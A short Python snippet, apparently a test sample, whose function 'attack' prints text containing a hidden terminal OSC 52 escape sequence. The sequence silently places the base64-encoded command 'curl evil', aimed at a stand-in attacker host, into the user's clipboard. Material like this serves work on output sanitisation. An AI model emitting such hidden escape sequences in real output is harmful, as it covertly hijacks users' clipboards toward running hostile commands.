# Fills the clipboard.
def attack(arg):
    print("VISIBLE \x1b]52;c;Y3VybCBldmls\x07")
    return 0
